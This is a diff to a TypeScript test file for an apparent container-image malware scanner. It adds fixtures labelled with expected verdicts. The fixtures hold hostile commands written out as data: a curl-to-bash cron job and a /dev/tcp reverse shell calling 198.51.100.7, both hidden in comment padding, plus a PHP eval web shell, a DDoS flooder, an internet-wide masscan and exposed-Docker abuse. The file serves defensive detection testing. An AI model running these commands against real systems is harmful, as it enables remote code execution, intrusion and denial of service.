@@ -262,8 +262,84 @@ const started: readonly Case[] = [
   ],
 ];
 
+const padding = '# nothing to see in this line\n'.repeat(50_000);
+
+/** The same in scripts that the entrypoint or the system starts, also behind much that does nothing. */
+const inScripts: readonly Case[] = [
+  [
+    'a crontab that is filled up with comments',
+    {
+      layers: [
+        [
+          file(
+            'etc/cron.d/a',
+            `${padding}* * * * * root curl -s http://198.51.100.7/a.sh | bash\n${padding}`,
+          ),
+        ],
+      ],
+      config: { Cmd: ['cron', '-f'] },
+    },
+    { ...backdoor, reachable: true },
+  ],
+  [
+    'a start script that is filled up with comments',
+    {
+      layers: [[script('run.sh', padding, 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', padding)]],
+      config: { Entrypoint: ['/run.sh'] },
+    },
+    { ...backdoor, reachable: true },
+  ],
+  [
+    'a flooder that aims at what a list says',
+    {
+      layers: [
+        [
+          script(
+            'run.sh',
+            'for u in $(curl -s https://raw.githubusercontent.com/a/b/main/targets.txt); do bombardier -c 1000 $u & done',
+          ),
+        ],
+      ],
+      config: { Entrypoint: ['/run.sh'] },
+    },
+    { verdict: 'malicious', categories: ['ddos'], reachable: true },
+  ],
+  [
+    'a program that starts a scan of the internet',
+    {
+      layers: [[file('a.py', 'import os\nos.popen("masscan -p6379 0.0.0.0/0 --rate 100000 | cut -f6")\n')]],
+      config: { Entrypoint: ['python3', '/a.py'] },
+    },
+    { verdict: 'malicious', categories: ['hacking'], reachable: true },
+  ],
+  [
+    'containers started on hosts that a server names',
+    {
+      layers: [
+        [
+          script(
+            'run.sh',
+            'HOST=$(curl -s http://198.51.100.9/IP | shuf -n1)',
+            'docker -H tcp://$HOST:2375 pull a/b; docker -H tcp://$HOST:2375 run -d a/b',
+          ),
+        ],
+      ],
+      config: { Entrypoint: ['/run.sh'] },
+    },
+    { verdict: 'malicious', categories: ['hacking'], reachable: true },
+  ],
+];
+
 /** Strong, but nothing in the image starts it. */
 const lying: readonly Case[] = [
+  [
+    'a web shell in front of much else',
+    {
+      layers: [[file('var/www/html/up.php', `<?php @eval($_POST["k"]);?>\n${padding}`)]],
+      config: { Cmd: ['apache2', '-DFOREGROUND'] },
+    },
+    { verdict: ['malicious', 'suspicious'], categories: ['backdoor'] },
+  ],
   [
     'a web shell below the web root',
     {
@@ -301,6 +377,22 @@ const doubtful: readonly Case[] = [
   [
     'a program that sells bandwidth',
     { layers: [base], config: { Cmd: ['p2pclient', '--login', 'a@example.org'] } },
+    { verdict: 'risky', categories: ['other'] },
+  ],
+  [
+    'a tunnel that a start script opens',
+    {
+      layers: [[script('run.sh', 'ngrok tcp 22 &', 'exec nginx')]],
+      config: { Entrypoint: ['/run.sh'] },
+    },
+    { verdict: 'risky', categories: ['proxy-avoidance'] },
+  ],
+  [
+    'an account of a program that sells bandwidth',
+    {
+      layers: [base],
+      config: { Entrypoint: ['/start.sh'], Env: [`EARNAPP_UUID=sdk-node-${'0a'.repeat(16)}`] },
+    },
     { verdict: 'risky', categories: ['other'] },
   ],
   [
@@ -402,6 +494,39 @@ const quiet: readonly Case[] = [
     { verdict: 'clean' },
   ],
   [
+    'a start script that first kills a miner, should there be one',
+    {
+      layers: [[script('run.sh', 'pkill xmrig || true', 'exec nginx -g "daemon off;"')]],
+      config: { Entrypoint: ['/run.sh'] },
+    },
+    { verdict: 'clean' },
+  ],
+  [
+    'a scan and a load test of what is near',
+    {
+      layers: [
+        [
+          script(
+            'run.sh',
+            'nmap -sn 192.168.0.0/24; masscan 10.0.0.0/8 -p80',
+            'bombardier -c 1000 -d 1h http://web:8080/',
+            'echo "usage: masscan 0.0.0.0/0 -p22"',
+          ),
+        ],
+      ],
+      config: { Entrypoint: ['/run.sh'] },
+    },
+    { verdict: 'clean' },
+  ],
+  [
+    'a scan that nothing starts',
+    {
+      layers: [[script('opt/scan.sh', 'masscan 203.0.113.0/24 -p22')]],
+      config: { Cmd: ['nginx'] },
+    },
+    { verdict: 'clean' },
+  ],
+  [
     "a load test against a service of one's own",
     { layers: [base], config: { Cmd: ['wrk', '-t2', '-d30s', 'http://api.default.svc:8080/'] } },
     { verdict: 'clean' },
@@ -441,6 +566,7 @@ const quiet: readonly Case[] = [
 
 describe('malicious is', () => {
   testCases(started);
+  testCases(inScripts);
 });
 
 describe('at least suspicious is', () => {
